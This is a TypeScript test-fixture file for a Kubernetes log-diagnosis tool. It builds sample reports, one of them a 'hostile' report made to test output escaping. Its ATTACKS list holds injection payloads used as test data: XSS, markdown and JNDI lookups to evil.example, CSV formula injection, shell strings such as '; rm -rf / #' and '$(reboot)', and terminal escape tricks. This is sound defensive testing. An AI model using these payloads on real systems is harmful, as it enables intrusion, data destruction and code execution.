// Reports of all kinds for the tests of the outputs.
import { readFileSync } from 'node:fs'
import { Diagnosis } from '../../src/diagnose.ts'
import { LineLimiter } from '../../src/lines/limit.ts'
import { splitLines } from '../../src/lines/split.ts'
import type { Report } from '../../src/report/report.ts'
import { builtinRules } from '../../src/rules/load.ts'
import { MINUTE } from '../../src/time/instant.ts'
import { at, reportOf, seen } from '../correlate/story.ts'

/** Texts that do harm where they are not taken as text. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script> x',
  '</script><script>alert(1)</script> x',
  '<!--<script> x',
  '--><img src=x onerror=alert(1)> x',
  '"><svg onload=alert(1)> x',
  "' autofocus onfocus=alert(1) x='",
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a> x',
  '</pre></noscript><h1>big</h1> x',
  ']]><failure/> x',
  '&lt;b&gt; &amp;#60;',
  '[click](https://evil.example/a)',
  '![pixel](https://evil.example/b.png)',
  '<https://evil.example/c> https://evil.example/d',
  '**bold** _em_ ~~gone~~ ``` `code` ``',
  '# heading - list > quote | cell |',
  '@everyone #1 $x^2$ ==mark==',
  '{0} {{1}} %s \\n \\',
  '"} 1 kubelog_evil{a="b',
  "=cmd|' /C calc'!A0",
  '; rm -rf / #',
  '$(reboot) `reboot` && reboot',
  'esc \u001b end \u0007 bell',
  '\u009b31m \u202egnp.exe \u2066x\u2069 a\u200bb',
  '\u0000\u0008\u007f end',
  'half a pair \ud800, \ufffe',
  'other half \udc00 end',
  'link \u001b]8;;https://evil.example/e\u0007click\u001b]8;;\u0007 end',
  'title \u001b]0;owned\u001b\\ clear \u001b[2J\u001b[H end',
  'nul \u0000 in \u0000 it',
  'lines \u2028 and \u2029 \u0085 end',
  'back \r over \u0008\u0008 it',
  '\t@SUM(1+1)*cmd|x, "a";b',
  '+1-1=|<>&^%PATH%!x!',
  '`id` $(id) ${IFS}; | && || > /tmp/x < /dev/null',
  '{{.Values}} ${jndi:ldap://evil.example/f} %x %n',
]

/** Can a line of a log have it whole? Links of terminals are taken out of a line, and a name in it ends at any line break. */
export function isOfLine(attack: string): boolean {
  // oxlint-disable-next-line no-control-regex -- ESC is what this is about
  return !/\u001b\]|[\r\u2028\u2029]/.test(attack)
}

/** Longer than any name, and than what is kept of a line. */
export const ENDLESS = `long ${'x'.repeat(70_000)} end`

const RULES = [
  seen(
    'pod-crash',
    { level: 'high', subject: 'pod', window: MINUTE / 2, explains: ['pod-backoff'] },
    { regex: 'pod crash of (?<pod>.+)', summary: 'crash of {pod}' },
  ),
  seen('pod-backoff', { role: 'effect', subject: 'pod' }, { regex: 'pod backoff of (?<pod>.+)' }),
  seen('disk-full', { level: 'critical', window: MINUTE, recoveredBy: ['disk-cleaned'] }),
  seen('disk-cleaned', { role: 'lifecycle' }),
]

/** Strangers wrote what is in it: names of pods, messages, and of each attack a node and a file that are called so. */
export async function hostileReport(): Promise<Report> {
  const attacks = [...ATTACKS, ENDLESS]
  const lines = attacks.flatMap((attack, index) => {
    const time = `12:${String(index).padStart(2, '0')}:00`
    return [at(time, `pod crash of ${attack}`), at(time, `pod backoff of ${attack}`), at(time, `what is ${attack}`)]
  })
  const diagnosis = new Diagnosis(RULES)
  await diagnosis.read('logs/<b>"a" [x](y).log', lines, new LineLimiter(), {})
  const bare = 'E0602 12:00:00.000000       7 kettle.go:7] disk full'
  await diagnosis.read('b', [bare], new LineLimiter(), { node: '<i>"n`]|\\', year: 2024 })
  for (const attack of attacks) {
    const entry = {
      _HOSTNAME: attack,
      SYSLOG_IDENTIFIER: 'kubelet',
      MESSAGE: bare,
      __REALTIME_TIMESTAMP: '1717329600000000',
    }
    await diagnosis.read(`logs/${attack}`, [JSON.stringify(entry)], new LineLimiter(), {})
  }
  return diagnosis.report()
}

/** Read once: without a build they come from YAML, which takes its time. */
let read: ReturnType<typeof builtinRules> | undefined
const rulesOnce = (): ReturnType<typeof builtinRules> => (read ??= builtinRules())

export async function sampleReport(): Promise<Report> {
  const diagnosis = new Diagnosis(await rulesOnce())
  const folder = new URL('../../samples/inotify-watches-exhausted/', import.meta.url)
  for (const name of ['restart-failed.log', 'watches-exhausted.log']) {
    const limiter = new LineLimiter()
    await diagnosis.read(name, splitLines(readFileSync(new URL(name, folder)), limiter), limiter)
  }
  return diagnosis.report()
}

/** An incident of nearly every rule. */
export async function everyRuleReport(): Promise<Report> {
  const rules = await rulesOnce()
  const diagnosis = new Diagnosis(rules)
  for (const { id, samples } of rules) {
    const lines = [...samples.match, ...samples.noMatch].flatMap(({ log }) => log.trimEnd().split('\n'))
    await diagnosis.read(`${id}.log`, lines, new LineLimiter())
  }
  return diagnosis.report()
}

/** One incident that is over, on one of two nodes. */
export async function recoveredReport(): Promise<Report> {
  return reportOf(RULES, [
    at('12:00:00', 'disk full'),
    at('12:00:30', 'disk cleaned', { severity: 'I' }),
    at('12:00:00', 'all is well', { node: 'node-b', severity: 'I' }),
  ])
}

export async function healthyReport(): Promise<Report> {
  return reportOf(RULES, [at('12:00:00', 'all is well', { severity: 'I' })])
}

export async function emptyReport(): Promise<Report> {
  return reportOf(RULES, [])
}

export type ReportName = 'sample' | 'every rule' | 'hostile' | 'recovered' | 'healthy' | 'empty'

export const MAKERS: Readonly<Record<ReportName, () => Promise<Report>>> = {
  sample: sampleReport,
  'every rule': everyRuleReport,
  hostile: hostileReport,
  recovered: recoveredReport,
  healthy: healthyReport,
  empty: emptyReport,
}

/** All reports, by name. */
export async function allReports(): Promise<Record<ReportName, Report>> {
  const made = await Promise.all(Object.entries(MAKERS).map(async ([name, make]) => [name, await make()] as const))
  return Object.fromEntries(made) as Record<ReportName, Report> // the keys of MAKERS
}

/** For the hooks that make reports. */
export const PATIENCE = 60_000
